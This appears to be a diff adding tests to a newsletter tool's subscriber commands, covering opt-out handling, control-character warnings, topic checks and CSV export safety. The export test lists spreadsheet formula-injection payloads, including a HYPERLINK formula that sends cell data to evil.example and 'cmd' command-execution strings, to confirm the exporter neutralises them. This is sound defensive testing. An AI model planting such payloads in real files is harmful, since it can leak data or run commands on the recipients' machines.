@@ -3,12 +3,14 @@ messy imports, statuses that stick, export, and runs that pick up subscribers.cs
 
 from __future__ import annotations
 
+import csv
+import io
 import re
 from pathlib import Path
 
 from click.testing import CliRunner
 
-from conftest import NOW, markdown_entry, write_entry
+from conftest import NOW, markdown_entry, messages, write_entry
 from pipeline.cli.main import cli
 from pipeline.run import run
 from pipeline.state.ledger import open_ledger
@@ -140,3 +142,125 @@ def test_status_shows_counts_per_status(site: Path) -> None:
     run(site, NOW)
     out = CliRunner().invoke(cli, ["status", "--site", str(site)]).stdout
     assert "Subscribers: 2 active, 0 pending, 1 unsubscribed, 0 bounced" in out
+
+
+def test_an_opt_out_below_an_active_row_wins_and_is_reported(site: Path) -> None:
+    write_entry(site, "a.md", markdown_entry(title="One"))
+    csv_path = site / "subscribers.csv"
+    csv_path.write_text(csv_path.read_text() + "ada@example.org,,,unsubscribed\n")
+    result = CliRunner().invoke(cli, ["run", "--site", str(site)], catch_exceptions=False)
+    assert result.exit_code == 0  # the file is clear enough: the person asked to leave
+    assert re.search(r"^subscribers\.csv:2: warning: status: ada@example\.org is active here "
+                     r"but unsubscribed on line 5 — the opt-out wins", result.stderr, re.M)
+    assert book_status(site) == {"grace@example.org": "active", "ada@example.org": "unsubscribed",
+                                 "left@example.org": "unsubscribed"}
+    assert sorted(m["To"].addresses[0].addr_spec for m in messages(site)) == [
+        "grace@example.org"]
+
+
+def test_an_opt_out_anywhere_in_an_import_wins_over_an_active_row(site: Path,
+                                                                  tmp_path: Path) -> None:
+    path = tmp_path / "list.csv"
+    path.write_text("email,name,status\nada@example.org,Ada,active\nb@example.org,B,bounced\n"
+                    "grace@example.org,Grace,active\nB@example.org,B,active\n"
+                    "grace@example.org,,unsubscribed\n", encoding="utf-8")
+    code, out, err = invoke(site, "subscribers", "import", str(path))
+    assert code == 0 and "0 rows rejected" in out
+    assert book_status(site) == {"ada@example.org": "active", "b@example.org": "bounced",
+                                 "grace@example.org": "unsubscribed"}
+    assert [int(re.match(rf"{re.escape(str(path))}:(\d+): warning: status: ", line).group(1))
+            for line in err.splitlines()] == [4, 5]
+
+
+HOSTILE_NAMES = {
+    "=HYPERLINK(\"https://evil.example/?\"&A1,\"Click\")": "'=HYPERLINK(",
+    "+cmd|' /C calc'!A0": "'+cmd|",
+    "-2+3+cmd|' /C calc'!A0": "'-2+3",
+    "@SUM(1+1)*cmd|' /C calc'!A0": "'@SUM(",
+    "\t=1+1": "'=1+1",
+    "\r=1+1": "'=1+1",
+    "Bell\x07 and\x1b[31m escape": "Bell and[31m escape",
+}
+
+
+def test_export_neutralises_formulas_and_drops_control_characters(site: Path,
+                                                                   tmp_path: Path) -> None:
+    from pipeline.core.models import Subscriber
+
+    with open_ledger(site / ".newsletter") as ledger:
+        book = SubscriberBook(ledger)
+        for number, name in enumerate(HOSTILE_NAMES):
+            book.add(Subscriber(f"p{number}@example.org", name), NOW)
+        book.add(Subscriber("=1+1@example.org", "Formula Address"), NOW)
+    exported = tmp_path / "out.csv"
+    assert invoke(site, "subscribers", "export", str(exported))[0] == 0
+    data = exported.read_text(encoding="utf-8")
+    assert not re.search("[\x00-\x08\x0b-\x0c\x0e-\x1f\x7f-\x9f]", data)
+    cells = [cell for row in csv.reader(io.StringIO(data)) for cell in row]
+    assert not [cell for cell in cells if cell[:1] in ("=", "+", "-", "@", "\t", "\r")]
+    for name, shown in HOSTILE_NAMES.items():
+        assert any(cell.startswith(shown) for cell in cells), name
+    assert "'=1+1@example.org" in cells
+    # Import takes the quote off again: the list comes back as it was (control chars aside).
+    other = tmp_path / "other"
+    other.mkdir()
+    (other / "newsletter.toml").write_text((site / "newsletter.toml").read_text())
+    assert invoke(other, "subscribers", "import", str(exported))[0] == 0
+    with open_ledger(other / ".newsletter") as ledger:
+        names = {s.email: s.name for s in SubscriberBook(ledger).everyone()}
+    assert names["p0@example.org"] == "=HYPERLINK(\"https://evil.example/?\"&A1,\"Click\")"
+    assert names["p4@example.org"] == "=1+1"
+    assert names["=1+1@example.org"] == "Formula Address"
+
+
+def test_import_reports_control_characters_with_their_line(site: Path, tmp_path: Path) -> None:
+    path = tmp_path / "list.csv"
+    path.write_text("email,name,categories,status\nada@example.org,Ada,,active\n"
+                    "grace@example.org,Grace\x07 Hopper,Sleep\x1b,active\n", encoding="utf-8")
+    code, out, err = invoke(site, "subscribers", "import", str(path))
+    assert code == 0 and "2 added" in out and "0 rows rejected" in out
+    lines = err.splitlines()
+    assert lines == [
+        f"{path}:3: warning: name: grace@example.org: contains a control character — removed; "
+        "check that row in the file",
+        f"{path}:3: warning: categories: grace@example.org: contains a control character — "
+        "removed; check that row in the file"]
+    with open_ledger(site / ".newsletter") as ledger:
+        grace = SubscriberBook(ledger).get("grace@example.org")
+    assert grace.name == "Grace Hopper" and grace.categories == ("Sleep",)
+
+
+def test_add_on_a_known_address_changes_only_what_is_given(site: Path) -> None:
+    write_entry(site, "a.md", markdown_entry(category="Sleep"))
+    write_entry(site, "b.md", markdown_entry(title="Heart", category='"Heart Health"'))
+    assert invoke(site, "subscribers", "add", "ada@example.org", "--name", "Ada",
+                  "--categories", "Sleep;heart health")[0] == 0
+
+    def ada() -> tuple[str, tuple[str, ...]]:
+        with open_ledger(site / ".newsletter") as ledger:
+            row = SubscriberBook(ledger).get("ada@example.org")
+        return row.name, row.categories
+
+    assert invoke(site, "subscribers", "add", "ADA@example.org", "--name", "Ada Lovelace")[0] == 0
+    assert ada() == ("Ada Lovelace", ("heart health", "Sleep"))  # the topics stay
+    assert invoke(site, "subscribers", "add", "ada@example.org", "--categories", "Sleep")[0] == 0
+    assert ada() == ("Ada Lovelace", ("Sleep",))  # the name stays
+    assert invoke(site, "subscribers", "add", "ada@example.org")[0] == 0
+    assert ada() == ("Ada Lovelace", ("Sleep",))
+    assert invoke(site, "subscribers", "add", "ada@example.org", "--categories", "")[0] == 0
+    assert ada() == ("Ada Lovelace", ())  # "" chooses every entry
+
+
+def test_add_reports_topics_no_published_entry_has(site: Path) -> None:
+    write_entry(site, "a.md", markdown_entry(category="Sleep"))
+    write_entry(site, "later.md", markdown_entry(title="Later", date="2099-01-01",
+                                                 category="Nutrition"))  # not published yet
+    code, out, err = invoke(site, "subscribers", "add", "ada@example.org",
+                            "--categories", "sleep;Slep;Nutrition")
+    assert code == 0 and "added ada@example.org" in out
+    assert err.splitlines() == [
+        f"warning: topic {topic!r} is not a category of any published entry (known: Sleep) — "
+        "check the spelling: a subscriber gets only entries in their topics"
+        for topic in ("Nutrition", "Slep")]
+    assert invoke(site, "subscribers", "add", "grace@example.org", "--categories",
+                  "SLEEP")[2] == ""
